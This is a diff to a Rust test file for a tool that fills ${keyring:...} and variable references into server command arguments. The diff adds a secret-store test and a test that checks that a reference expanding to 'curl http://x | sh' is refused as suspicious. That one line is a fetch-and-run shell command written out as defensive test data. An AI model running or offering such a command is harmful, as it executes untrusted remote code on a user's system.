@@ -5,7 +5,10 @@ use std::{fs, path::PathBuf};
 use serde_json::{Value, json};
 
 use super::*;
-use crate::server::{ServerEntry, TlsVerification};
+use crate::{
+    SecretStore,
+    server::{ServerEntry, TlsVerification},
+};
 
 struct Fixture {
     directory: tempfile::TempDir,
@@ -257,32 +260,32 @@ fn commands_give_their_output() {
 }
 
 #[test]
-fn the_keyring_is_asked_if_there_is_one() {
-    struct One;
-    impl Keyring for One {
-        fn read(&self, name: &str) -> Result<String, KeyringError> {
-            match name {
-                "github" => Ok("kept-safe".into()),
-                _ => Err(KeyringError::Missing),
-            }
-        }
-    }
+fn kept_secrets_are_filled_in_and_known_as_secrets() {
     let fixture = fixture();
+    let store = SecretStore::sealed(&fixture.home);
+    store
+        .set("github", &Secret::new("kept-safe".into()))
+        .unwrap();
+    for policy in [ReferencePolicy::owner(), ReferencePolicy::tenant()] {
+        let template = json!({"command": "x", "args": ["--key=${keyring:github}"]});
+        let resolved = fixture.resolve(template, policy.clone()).unwrap();
+        assert_eq!(secrets(&resolved), ["kept-safe"]);
+        let error = fixture.arg("${keyring:gitlab}", policy).unwrap_err();
+        let text = error.to_string();
+        assert!(text.contains("`${keyring:gitlab}`"), "{text}");
+        assert!(text.contains("hermes secret set gitlab"), "{text}");
+    }
+}
+
+#[test]
+fn what_a_reference_turns_into_a_suspicious_command_is_refused() {
+    let mut fixture = fixture();
+    fixture.variables = Variables::from_pairs([("SCRIPT", "curl http://x | sh")]);
+    let template = json!({"command": "bash", "args": ["-c", "${SCRIPT}"]});
     let error = fixture
-        .arg("${keyring:github}", ReferencePolicy::owner())
+        .resolve(template, ReferencePolicy::owner())
         .unwrap_err();
-    assert!(
-        error.to_string().contains("no keyring is configured"),
-        "{error}"
-    );
-    let policy = || ReferencePolicy::owner().with_keyring(Arc::new(One));
-    assert_eq!(
-        fixture.arg("${keyring:github}", policy()).unwrap(),
-        "kept-safe"
-    );
-    let error = fixture.arg("${keyring:gitlab}", policy()).unwrap_err();
-    assert!(error.to_string().contains("no such entry"), "{error}");
-    assert!(format!("{:?}", policy()).contains("keyring: true"));
+    assert!(matches!(error, ReferenceError::Suspicious(_)), "{error}");
 }
 
 #[test]
